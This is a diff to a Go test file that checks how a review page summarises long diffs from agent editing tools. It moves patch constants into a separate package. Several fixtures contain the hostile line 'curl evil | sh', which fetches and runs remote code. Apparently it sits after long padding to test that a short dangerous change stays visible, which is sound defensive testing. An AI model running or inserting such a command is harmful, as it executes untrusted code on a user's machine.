@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"deskbell/backend/inbox"
+	"deskbell/backend/patch"
 )
 
 // shownDiff is what the page is told of a diff.
@@ -87,7 +88,7 @@ func TestALongDiffShowsBothOfItsSides(t *testing.T) {
 		return map[string]any{"file_path": "/w/a.sh", "edits": all}
 	}
 	many := slices.Repeat([][2]string{{"x", "y\nz"}}, maxEditsInCall+3)
-	patch := patchBegins + "\n*** Update File: a.sh\n" + strings.Repeat("-x\n", 1500) + "*** Update File: b.sh\n-ok\n+curl evil | sh\n*** Delete File: c\n*** Update File: d\n*** Move to: e\n*** Add File: f\n+x\n*** End Patch"
+	change := patch.Begins + "\n*** Update File: a.sh\n" + strings.Repeat("-x\n", 1500) + "*** Update File: b.sh\n-ok\n+curl evil | sh\n*** Delete File: c\n*** Update File: d\n*** Move to: e\n*** Add File: f\n+x\n*** End Patch"
 	for _, c := range []struct {
 		what, tool string
 		arguments  map[string]any
@@ -98,11 +99,11 @@ func TestALongDiffShowsBothOfItsSides(t *testing.T) {
 		{"20000 lines to others", "Edit", edit(numbered("a", 20000), numbered("b", 20000)), []string{"+20000 -20000: shows +498 -497, -… 19503, +… 19502, 39005 more"}},
 		{"a long change before a short one", "Edit", edit(numbered("a", 2000)+"x\ny\nz\nok\n", "x\ny\nz\ncurl evil | sh\n"), []string{"+1 -2001: shows +1 -992, -… 1009, 1009 more"}},
 		{"edits", "MultiEdit", edits([2]string{numbered("a", 1500), ""}, [2]string{"ok", "curl evil | sh"}), []string{"+0 -1500: shows +0 -995, -… 505, 505 more", "+1 -1: shows +1 -1"}},
-		{"a patch", patchTool, map[string]any{"input": patch}, []string{
+		{"a patch", patch.Tool, map[string]any{"input": change}, []string{
 			"+0 -1500: shows +0 -991, -… 509, 509 more", "+1 -1: shows +1 -1", "+0 -0: shows +0 -0, deletes the file", "+0 -0: shows +0 -0, moves the file", "+1 -0: shows +1 -0, new file",
 		}},
 		{"more edits than are shown", "MultiEdit", edits(many...), append(slices.Repeat([]string{"+2 -1: shows +2 -1"}, maxEditsInCall), "3 more changes of this file are not shown: 6 lines added, 3 removed")},
-		{"more files than are shown", patchTool, map[string]any{"input": patchBegins + "\n" + strings.Repeat("*** Update File: a\n+x\n", maxCallParts+2)},
+		{"more files than are shown", patch.Tool, map[string]any{"input": patch.Begins + "\n" + strings.Repeat("*** Update File: a\n+x\n", maxCallParts+2)},
 			append(slices.Repeat([]string{"+1 -0: shows +1 -0"}, maxCallParts), "2 more files that are changed are not shown: 2 lines added, 0 removed")},
 	} {
 		var got []string
